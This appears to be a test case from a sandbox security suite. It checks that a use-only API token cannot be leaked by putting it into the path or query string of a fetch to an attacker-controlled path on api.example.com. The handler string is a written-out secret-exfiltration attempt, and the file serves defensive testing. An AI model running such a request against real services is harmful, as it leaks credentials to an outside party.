import assert from 'node:assert/strict'
import { treasures } from '../../world.ts'
import { apiGranted, defineAttempt } from '../../attempt.ts'

export const attempt = defineAttempt({
  title: 'a secret that may only be used cannot be put into a URL',
  handler: (place) =>
    `const out = []; for (const url of ['http://api.example.com:${place.granted}/${place.attacker}/{}', 'http://api.example.com:${place.granted}/${place.attacker}/?k={token}']) { try { out.push((await context.network.fetch(url, { secretHeaders: { 'x-key': { secret: 'token' } } })).url) } catch (error) { out.push(error.code) } } return String(out.length)`,
  grants: (place) => ({ ...apiGranted(place), secrets: [{ field: 'token', access: 'use' }] }),
  config: { token: 'api-token' },
  gets: '2',
  check: ({ hits }) => assert.ok(hits.every((hit) => !decodeURIComponent(hit.url).includes(treasures.secret))),
})
